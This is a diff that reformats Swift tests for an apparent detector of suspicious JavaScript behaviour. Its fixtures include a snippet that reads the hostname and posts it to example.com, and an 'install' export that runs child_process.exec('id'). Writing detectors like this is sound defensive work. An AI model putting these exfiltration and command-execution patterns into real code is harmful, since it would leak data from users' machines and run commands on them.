@@ -18,7 +18,8 @@ import Testing
     }
 
     @Test func functionsKeepTheirEventsAndCallsAreOrdered() {
-        let analysis = Support.analyse("""
+        let analysis = Support.analyse(
+            """
             const os = require('os');
             function collect() { return os.hostname(); }
             const send = (data) => { fetch('https://example.com', { body: data }); };
@@ -30,9 +31,10 @@ import Testing
             send(collect());
             new Worker().run();
             """)
-        #expect(summary(analysis.topLevel) == [
-            "import_os_module", "import:os@1", "call:send", "call:collect", "call:Worker.run",
-        ])
+        #expect(
+            summary(analysis.topLevel) == [
+                "import_os_module", "import:os@1", "call:send", "call:collect", "call:Worker.run",
+            ])
         #expect(summary(analysis.functions["collect"] ?? []) == ["recon_host"])
         #expect(summary(analysis.functions["send"] ?? []) == ["use_network", "url"])
         #expect(summary(analysis.functions["helper"] ?? []) == ["eval_code"])
@@ -41,7 +43,8 @@ import Testing
     }
 
     @Test func hoistedCallsAndMemberFunctions() {
-        let analysis = Support.analyse("""
+        let analysis = Support.analyse(
+            """
             main();
             exports.install = function () { require('child_process').exec('id'); };
             function main() { exports.install(); }
@@ -49,25 +52,29 @@ import Testing
             """)
         #expect(summary(analysis.topLevel) == ["call:main", "call:main"])
         #expect(summary(analysis.functions["main"] ?? []) == ["call:exports.install"])
-        #expect(summary(analysis.functions["exports.install"] ?? []) == [
-            "import_process_module", "import:child_process@2", "spawn_process",
-        ])
+        #expect(
+            summary(analysis.functions["exports.install"] ?? []) == [
+                "import_process_module", "import:child_process@2", "spawn_process",
+            ])
     }
 
     @Test func relativeImportsAreImportsOnly() {
-        let analysis = Support.analyse("import './setup';\nimport x from './x.js';\nconst y = require('../y');\nexport * from './z';")
+        let analysis = Support.analyse(
+            "import './setup';\nimport x from './x.js';\nconst y = require('../y');\nexport * from './z';")
         #expect(summary(analysis.topLevel) == ["import:./setup@1", "import:./x.js@2", "import:../y@3", "import:./z@4"])
     }
 
     @Test func anonymousCallbacksStayInline() {
-        let analysis = Support.analyse("""
+        let analysis = Support.analyse(
+            """
             const fs = require('fs');
             [1].forEach(function () { fs.readFileSync('a'); });
             (() => { fs.writeFileSync('b', ''); })();
             """)
-        #expect(summary(analysis.topLevel) == [
-            "import_fs_module", "import:fs@1", "read_file", "write_file",
-        ])
+        #expect(
+            summary(analysis.topLevel) == [
+                "import_fs_module", "import:fs@1", "read_file", "write_file",
+            ])
         #expect(analysis.functions.isEmpty)
     }
 
